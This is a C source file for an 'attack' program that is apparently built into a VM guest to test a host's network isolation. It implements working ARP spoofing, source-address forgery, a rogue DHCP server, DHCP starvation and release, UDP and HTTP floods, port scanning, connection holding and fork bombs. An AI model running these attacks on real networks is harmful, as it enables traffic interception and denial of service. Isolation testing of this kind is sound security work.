/*
 * What a hostile guest's root can send that no ordinary tool sends: frames and packets of its own making. One attack a
 * call; built as a static program and carried into the guest in its user_data (attack-kit.ts).
 *
 *   attack arp-claim COUNT IP TARGET-MAC          ARP answers "IP is at my MAC", to TARGET-MAC ("host": the factory's)
 *   attack ip-from SOURCE-IP DEST-IP PORT COUNT TEXT   UDP packets with another's source address; by broadcast to
 *                                                 255.255.255.255
 *   attack mac-from SOURCE-MAC DEST-MAC COUNT     IP frames with another's source MAC
 *   attack dhcp-serve COUNT                       offers of a DHCP server, to everybody
 *   attack dhcp-release COUNT IP MAC              gives up another's lease
 *   attack dhcp-flood COUNT                       discovers with random client addresses, each other one in a frame of
 *                                                 its own
 *   attack ethertype TYPE DEST-MAC COUNT          frames of another protocol (hexadecimal)
 *   attack udp-flood DEST-IP PORT COUNT TEXT      ordinary datagrams as fast as they go; "%d" in TEXT is counted
 *   attack flows COUNT                            one datagram each to COUNT addresses outside
 *   attack tcp [-b SOURCE-IP] DEST-IP PORT SECONDS [TEXT]   connects and says what happened: open, closed, silent;
 *                                                 with TEXT sends it, as lines of the Internet, and prints what comes back
 *   attack scan DEST-IP SECONDS AWAITED PORT...   connects to all at once, waits until those of AWAITED (as 53,80) are
 *                                                 open, then so many seconds more, and says which are
 *   attack requests DEST-IP PORT COUNT SECONDS PATH   HTTP requests for PATH by one connection, as fast as they go, by
 *                                                 another when that is closed; counts the answers by status
 *   attack udp DEST-IP PORT SECONDS TEXT          sends it and prints "answered BYTES" or "silent"
 *   attack hold DEST-IP PORT COUNT SECONDS MOST TEXT   that many connections, each of which says TEXT and no more; how many
 *                                                 are there when they have been as many, and MOST at last, for so long
 *   attack forks COUNT SECONDS                    children that compute
 *
 * All but tcp, scan, requests, udp and hold print how many the kernel took ("sent N").
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define INTERFACE "eth0"

static unsigned char own_mac[6];
static int frames;
static struct sockaddr_ll out;

static void die(const char *what) {
  perror(what);
  exit(1);
}

static void open_frames(void) {
  struct ifreq request = {0};
  frames = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (frames < 0) die("packet socket");
  strcpy(request.ifr_name, INTERFACE);
  if (ioctl(frames, SIOCGIFHWADDR, &request)) die(INTERFACE);
  memcpy(own_mac, request.ifr_hwaddr.sa_data, 6);
  out.sll_family = AF_PACKET;
  out.sll_ifindex = if_nametoindex(INTERFACE);
  out.sll_halen = 6;
}

static void host_mac(unsigned char *mac);

static void mac_of(const char *text, unsigned char *mac) {
  unsigned int part[6];
  if (!strcmp(text, "host")) return host_mac(mac);
  if (sscanf(text, "%x:%x:%x:%x:%x:%x", part, part + 1, part + 2, part + 3, part + 4, part + 5) != 6) die(text);
  for (int i = 0; i < 6; i++) mac[i] = part[i];
}

static unsigned short sum_of(const void *data, int length) {
  const unsigned short *word = data;
  unsigned int sum = 0;
  for (; length > 1; length -= 2) sum += *word++;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum;
}

static int send_frame(const unsigned char *frame, int length) {
  memcpy(out.sll_addr, frame, 6);
  for (int attempt = 0; attempt < 100; attempt++) {
    if (sendto(frames, frame, length, 0, (struct sockaddr *)&out, sizeof out) == length) return 1;
    if (errno != ENOBUFS) return 0;
    usleep(1000);
  }
  return 0;
}

static void header(unsigned char *frame, const unsigned char *to, const unsigned char *from, int type) {
  memcpy(frame, to, 6);
  memcpy(frame + 6, from, 6);
  frame[12] = type >> 8;
  frame[13] = type & 0xff;
}

/* An IPv4 packet with a UDP datagram, after the 14 bytes of its frame; returns the length of the whole. */
static int datagram(unsigned char *frame, const char *from, const char *to, int from_port, int to_port, const void *data,
                    int length) {
  struct iphdr *ip = (struct iphdr *)(frame + 14);
  struct udphdr *udp = (struct udphdr *)(frame + 34);
  memset(ip, 0, 28);
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons(28 + length);
  ip->saddr = inet_addr(from);
  ip->daddr = inet_addr(to);
  ip->check = sum_of(ip, 20);
  udp->source = htons(from_port);
  udp->dest = htons(to_port);
  udp->len = htons(8 + length);
  memcpy(frame + 42, data, length);
  return 42 + length;
}

static const unsigned char everybody[6] = {255, 255, 255, 255, 255, 255};

static int arp_claim(int count, const char *ip, const char *target) {
  unsigned char frame[42] = {0}, to[6];
  in_addr_t address = inet_addr(ip);
  int sent = 0;
  mac_of(target, to);
  header(frame, to, own_mac, ETH_P_ARP);
  memcpy(frame + 14, "\0\1\10\0\6\4\0\2", 8);
  memcpy(frame + 22, own_mac, 6);
  memcpy(frame + 28, &address, 4);
  memcpy(frame + 32, to, 6);
  for (int i = 0; i < count; i++) sent += send_frame(frame, sizeof frame);
  return sent;
}

/* The MAC of the host, as the guest knows it. */
static void host_mac(unsigned char *mac) {
  char line[256], text[32], ip[32];
  FILE *table = fopen("/proc/net/arp", "r");
  memcpy(mac, everybody, 6);
  while (table && fgets(line, sizeof line, table)) {
    if (sscanf(line, "%31s %*s %*s %31s", ip, text) == 2 && !strncmp(ip, "169.254.169.25", 14)) mac_of(text, mac);
  }
  if (table) fclose(table);
}

static int ip_from(const char *from, const char *to, int port, int count, const char *text) {
  unsigned char frame[2048], mac[6];
  int sent = 0;
  host_mac(mac);
  header(frame, strcmp(to, "255.255.255.255") ? mac : everybody, own_mac, ETH_P_IP);
  int length = datagram(frame, from, to, 4000, port, text, strlen(text));
  for (int i = 0; i < count; i++) sent += send_frame(frame, length);
  return sent;
}

static int mac_from(const char *from, const char *to, int count) {
  unsigned char frame[2048], source[6], target[6];
  int sent = 0;
  mac_of(from, source);
  mac_of(to, target);
  header(frame, target, source, ETH_P_IP);
  int length = datagram(frame, "169.254.169.254", "255.255.255.255", 4000, 4001, "spoofed", 7);
  for (int i = 0; i < count; i++) sent += send_frame(frame, length);
  return sent;
}

/* For what must happen: the host may have a lot else to do. */
#define PATIENCE_SECONDS 120

/* The fixed part of BOOTP and the message type; everything else is left out by what an attacker cares for. */
static int dhcp(unsigned char *message, int operation, int type, const unsigned char *client) {
  memset(message, 0, 300);
  message[0] = operation;
  message[1] = 1;
  message[2] = 6;
  memcpy(message + 4, client, 4);
  memcpy(message + 28, client, 6);
  memcpy(message + 236, "\x63\x82\x53\x63\x35\x01", 6);
  message[242] = type;
  message[243] = 255;
  return 300;
}

static int dhcp_serve(int count) {
  unsigned char frame[2048], message[300];
  int sent = 0;
  for (int i = 0; i < count; i++) {
    /* An offer and an acknowledgement in turn, each of an address and a router that are the attacker's. */
    int length = dhcp(message, 2, i % 2 ? 5 : 2, everybody);
    memcpy(message + 16, "\xa9\xfe\xa9\x42\xa9\xfe\xa9\x42", 8);
    header(frame, everybody, own_mac, ETH_P_IP);
    length = datagram(frame, "169.254.169.253", "255.255.255.255", 67, 68, message, length);
    sent += send_frame(frame, length);
  }
  return sent;
}

static int dhcp_release(int count, const char *ip, const char *mac) {
  unsigned char frame[2048], message[300], client[6];
  in_addr_t address = inet_addr(ip);
  int sent = 0;
  mac_of(mac, client);
  int length = dhcp(message, 1, 7, client);
  memcpy(message + 12, &address, 4);
  header(frame, everybody, own_mac, ETH_P_IP);
  length = datagram(frame, "0.0.0.0", "255.255.255.255", 68, 67, message, length);
  for (int i = 0; i < count; i++) sent += send_frame(frame, length);
  return sent;
}

static int dhcp_flood(int count) {
  unsigned char frame[2048], message[300], client[6] = {2};
  int sent = 0;
  for (int i = 0; i < count; i++) {
    for (int j = 1; j < 6; j++) client[j] = random();
    int length = dhcp(message, 1, 1, client);
    /* Half of them as their own frames say, half with the sender's real address and another client inside. */
    header(frame, everybody, i % 2 ? client : own_mac, ETH_P_IP);
    length = datagram(frame, "0.0.0.0", "255.255.255.255", 68, 67, message, length);
    sent += send_frame(frame, length);
  }
  return sent;
}

static int ethertype(int type, const char *to, int count) {
  unsigned char frame[128] = {0}, target[6];
  int sent = 0;
  mac_of(to, target);
  header(frame, target, own_mac, type);
  memcpy(frame + 14, "hostile", 7);
  for (int i = 0; i < count; i++) sent += send_frame(frame, sizeof frame);
  return sent;
}

static struct sockaddr_in address_of(const char *ip, int port) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
  address.sin_addr.s_addr = inet_addr(ip);
  return address;
}

static int udp_flood(const char *to, int port, int count, const char *text) {
  struct sockaddr_in target = address_of(to, port);
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0), sent = 0;
  char line[2048];
  for (int i = 0; i < count; i++) {
    int length = snprintf(line, sizeof line, text, i);
    sent += sendto(socket_, line, length, 0, (struct sockaddr *)&target, sizeof target) == length;
  }
  return sent;
}

static int flows(int count) {
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0), sent = 0;
  char ip[32];
  for (int i = 0; i < count; i++) {
    /* 198.18.0.0/15 is for benchmarks (RFC 2544): nobody is there. */
    snprintf(ip, sizeof ip, "198.18.%d.%d", i / 250 % 250, 1 + i % 250);
    struct sockaddr_in target = address_of(ip, 4000 + i / 62500);
    sent += sendto(socket_, "x", 1, 0, (struct sockaddr *)&target, sizeof target) == 1;
  }
  return sent;
}

static int ready(int socket_, short events, int seconds) {
  struct pollfd wanted = {.fd = socket_, .events = events};
  return poll(&wanted, 1, seconds * 1000) > 0;
}

static double seconds_now(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec + now.tv_nsec / 1e9;
}

/* A socket that does not wait until it is connected. */
static int connecting(const char *to, int port) {
  struct sockaddr_in target = address_of(to, port);
  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
  fcntl(socket_, F_SETFL, O_NONBLOCK);
  connect(socket_, (struct sockaddr *)&target, sizeof target);
  return socket_;
}

/* Whether a socket that was connecting is connected. */
static int is_open(int socket_) {
  int error = 0;
  socklen_t size = sizeof error;
  return ready(socket_, POLLOUT, 0) && !getsockopt(socket_, SOL_SOCKET, SO_ERROR, &error, &size) && !error;
}

static int scan(const char *to, int seconds, const char *awaited, char **ports, int count) {
  int sockets[64], open_ = 0, missing;
  double end = seconds_now() + PATIENCE_SECONDS;
  char list[256], port[16];
  snprintf(list, sizeof list, ",%s,", awaited);
  for (int i = 0; i < count && i < 64; i++) sockets[i] = connecting(to, atoi(ports[i]));
  do {
    missing = 0;
    for (int i = 0; i < count && i < 64; i++) {
      snprintf(port, sizeof port, ",%s,", ports[i]);
      if (strstr(list, port)) missing += !is_open(sockets[i]);
    }
    usleep(200000);
  } while (missing && seconds_now() < end);
  sleep(seconds);
  printf("open");
  for (int i = 0; i < count && i < 64; i++) {
    if (is_open(sockets[i])) open_ += printf(" %s", ports[i]);
  }
  return puts(open_ ? "" : " none");
}

static int requests(const char *to, int port, int count, int seconds, const char *path) {
  char request[512], answer[65536];
  int of_status[600] = {0}, left = count, answered = 0, kept = 0, socket_ = connecting(to, port);
  int length = snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", path, to), at = 0;
  double end = seconds_now() + seconds;
  signal(SIGPIPE, SIG_IGN);
  while (seconds_now() < end) {
    /* More than a few at once end the connection. */
    int may = left > 0 && count - left - answered < 8;
    struct pollfd wanted = {.fd = socket_, .events = POLLIN | (may ? POLLOUT : 0)};
    poll(&wanted, 1, 1000);
    if (answered == count) break;
    if (may && wanted.revents & POLLOUT) {
      int taken = write(socket_, request + at, length - at);
      if (taken > 0 && (at += taken) == length) at = 0, left--;
    }
    if (!(wanted.revents & (POLLIN | POLLHUP | POLLERR))) continue;
    int got = read(socket_, answer + kept, sizeof answer - 1 - kept);
    if (got < 0 && errno == EAGAIN) continue;
    if (got <= 0) {
      /* What it was not told it asks again. */
      close(socket_);
      usleep(100000);
      socket_ = connecting(to, port);
      left = count - answered, at = kept = 0;
      continue;
    }
    answer[kept + got] = 0;
    /* What may be half of a status line is kept for the next round. */
    char *rest = answer, *found;
    while ((found = strstr(rest, "HTTP/1.1 ")) && strlen(found) >= 12) {
      int status = atoi(found + 9);
      if (status > 0 && status < 600) of_status[status]++, answered++;
      rest = found + 12;
    }
    kept = strlen(rest) < 12 ? strlen(rest) : 12;
    memmove(answer, rest + strlen(rest) - kept, kept);
  }
  for (int status = 0; status < 600; status++) {
    if (of_status[status]) printf("%d: %d, ", status, of_status[status]);
    count -= of_status[status];
  }
  return printf("not answered: %d\n", count);
}

static int tcp(const char *from, const char *to, int port, int seconds, const char *text) {
  struct sockaddr_in target = address_of(to, port);
  int socket_ = socket(AF_INET, SOCK_STREAM, 0), error = 0;
  socklen_t size = sizeof error;
  char answer[4096];
  if (from) {
    struct sockaddr_in source = address_of(from, 0);
    if (bind(socket_, (struct sockaddr *)&source, sizeof source)) die("bind");
  }
  fcntl(socket_, F_SETFL, O_NONBLOCK);
  if (connect(socket_, (struct sockaddr *)&target, sizeof target) && errno != EINPROGRESS) error = errno;
  if (!error && !ready(socket_, POLLOUT, seconds)) return puts("silent");
  if (!error) getsockopt(socket_, SOL_SOCKET, SO_ERROR, &error, &size);
  if (error) return error == ETIMEDOUT || error == EHOSTUNREACH ? puts("silent") : puts("closed");
  if (!text) return puts("open");
  for (const char *rest = text; *rest; rest++) {
    /* It is little, and there is room for it. */
    if (*rest == '\n' && write(socket_, "\r", 1) != 1) return puts("closed");
    if (write(socket_, rest, 1) != 1) return puts("closed");
  }
  while (ready(socket_, POLLIN, seconds)) {
    int got = read(socket_, answer, sizeof answer);
    if (got <= 0) return 0;
    fwrite(answer, 1, got, stdout);
  }
  return 0;
}

static int udp(const char *to, int port, int seconds, const char *text) {
  struct sockaddr_in target = address_of(to, port);
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
  char answer[4096];
  sendto(socket_, text, strlen(text), 0, (struct sockaddr *)&target, sizeof target);
  int got = ready(socket_, POLLIN, seconds) ? recv(socket_, answer, sizeof answer, 0) : -1;
  return got < 0 ? puts("silent") : printf("answered %d\n", got);
}

static int hold(const char *to, int port, int count, int seconds, int most, const char *text) {
  int *sockets = calloc(count, sizeof *sockets), *told = calloc(count, sizeof *told), held = 0, before;
  double now = seconds_now(), last = now + PATIENCE_SECONDS, changed = 0;
  char byte;
  signal(SIGPIPE, SIG_IGN);
  do {
    /* At first; and when all were ended while this program was held up. */
    if (held == 0 && now - changed > seconds) {
      for (int i = 0; i < count; i++) {
        if (changed > 0) close(sockets[i]);
        sockets[i] = connecting(to, port), told[i] = 0;
      }
      changed = now;
    }
    before = held, held = 0;
    for (int i = 0; i < count; i++) {
      if (!told[i] && is_open(sockets[i])) told[i] = write(sockets[i], text, strlen(text)) > 0;
      held += told[i] && recv(sockets[i], &byte, 1, MSG_PEEK) < 0 && errno == EAGAIN;
    }
    usleep(200000);
    now = seconds_now();
    if (held != before) changed = now;
  } while (now < last && (held == 0 || held > most || now - changed < seconds));
  return printf("held %d\n", held);
}

static int forks(int count, int seconds) {
  int made = 0;
  time_t end = time(NULL) + seconds;
  for (int i = 0; i < count; i++) {
    int pid = fork();
    if (pid == 0) {
      while (time(NULL) < end) {}
      _exit(0);
    }
    made += pid > 0;
  }
  while (wait(NULL) > 0) {}
  return made;
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  int sent = -1;
  srandom(time(NULL));
#define IS(name, arguments) (!strcmp(what, name) && argc >= 2 + arguments)
  if (IS("tcp", 3)) {
    int bound = !strcmp(argv[2], "-b");
    char **rest = argv + 2 + 2 * bound;
    tcp(bound ? argv[3] : NULL, rest[0], atoi(rest[1]), atoi(rest[2]), argc > 5 + 2 * bound ? rest[3] : NULL);
    return 0;
  }
  if (IS("scan", 4)) return scan(argv[2], atoi(argv[3]), argv[4], argv + 5, argc - 5) < 0;
  if (IS("requests", 5)) return requests(argv[2], atoi(argv[3]), atoi(argv[4]), atoi(argv[5]), argv[6]) < 0;
  if (IS("udp", 4)) return udp(argv[2], atoi(argv[3]), atoi(argv[4]), argv[5]) < 0;
  if (IS("hold", 6)) {
    return hold(argv[2], atoi(argv[3]), atoi(argv[4]), atoi(argv[5]), atoi(argv[6]), argv[7]) < 0;
  }
  if (IS("udp-flood", 4)) sent = udp_flood(argv[2], atoi(argv[3]), atoi(argv[4]), argv[5]);
  else if (IS("flows", 1)) sent = flows(atoi(argv[2]));
  else if (IS("forks", 2)) sent = forks(atoi(argv[2]), atoi(argv[3]));
  else {
    open_frames();
    if (IS("arp-claim", 3)) sent = arp_claim(atoi(argv[2]), argv[3], argv[4]);
    if (IS("ip-from", 5)) sent = ip_from(argv[2], argv[3], atoi(argv[4]), atoi(argv[5]), argv[6]);
    if (IS("mac-from", 3)) sent = mac_from(argv[2], argv[3], atoi(argv[4]));
    if (IS("dhcp-serve", 1)) sent = dhcp_serve(atoi(argv[2]));
    if (IS("dhcp-release", 3)) sent = dhcp_release(atoi(argv[2]), argv[3], argv[4]);
    if (IS("dhcp-flood", 1)) sent = dhcp_flood(atoi(argv[2]));
    if (IS("ethertype", 3)) sent = ethertype(strtol(argv[2], NULL, 16), argv[3], atoi(argv[4]));
  }
  if (sent < 0) return fputs("attack: unknown attack or too few arguments\n", stderr), 2;
  printf("sent %d\n", sent);
  return 0;
}
